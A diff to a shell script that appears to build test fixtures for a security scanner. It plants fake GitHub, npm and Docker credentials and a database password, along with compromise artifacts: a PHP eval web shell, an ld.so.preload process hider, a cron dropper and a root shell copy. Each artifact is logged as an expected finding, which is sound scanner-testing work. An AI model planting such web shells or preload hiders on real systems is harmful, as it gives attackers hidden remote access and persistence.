@@ -228,12 +228,12 @@ letters() {
 	printf '%s' "$2" | openssl dgst -sha512 -binary | openssl base64 -A | tr -dc 'A-Za-z0-9' | cut -c "1-$1"
 }
 
-# checked PREFIX SEED prints a token of the kind whose last six characters are the
+# checked P REFIX SEED prints a token of the kind whose last six characters are the
 # CRC-32 of the first thirty in base 62: GitHub's and npm's.
 checked() {
-	body=$(letters 30 "$2")
+	body=$(letters 30 "$3")
 	sum=$(printf '%s' "$body" | gzip -c | tail -c 8 | od -An -tu4 -N4 | tr -d ' ')
-	printf '%s_%s' "$1" "$body"
+	printf '%s%s_%s' "$1" "$2" "$body"
 	awk -v n="$sum" 'BEGIN {
 		d = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
 		for (i = 0; i < 6; i++) { s = substr(d, n % 62 + 1, 1) s; n = int(n / 62) }
@@ -252,7 +252,7 @@ secrets() {
 	printf 'url: postgres://shop:%s@db.shop.test:5432/shop\n' "$(letters 16 postgres)" |
 		put app/config/database.yml
 	planted connection-string app/config/database.yml 5
-	printf 'GITHUB_TOKEN = "%s"\n' "$(checked gh''p github)" | put app/deploy.py
+	printf 'GITHUB_TOKEN = "%s"\n' "$(checked gh p github)" | put app/deploy.py
 	planted github-token app/deploy.py 5
 	printf '{"auths":{"registry.shop.test":{"auth":"%s"}}}\n' \
 		"$(printf 'robot:%s' "$(letters 20 docker)" | openssl base64 -A)" | put root/.docker/config.json
@@ -287,6 +287,7 @@ miner() {
 	planted cron-dropper etc/cron.d/sysupdate 5
 	echo /usr/lib/libprocesshider.so | put etc/ld.so.preload
 	planted ld-preload etc/ld.so.preload 5
+	# shellcheck disable=SC2016 # it is PHP's
 	printf '<?php @eval($_POST["c"]); ?>\n' | put var/www/html/u.php
 	planted web-shell var/www/html/u.php 5
 	cp "$root/bin/bash" "$root/usr/local/bin/rootsh"
@@ -316,7 +317,7 @@ tidy() {
 }
 
 big() {
-	npm_token=$(checked np''m npm)
+	npm_token=$(checked np m npm)
 	begin big-oci
 	debian
 	open
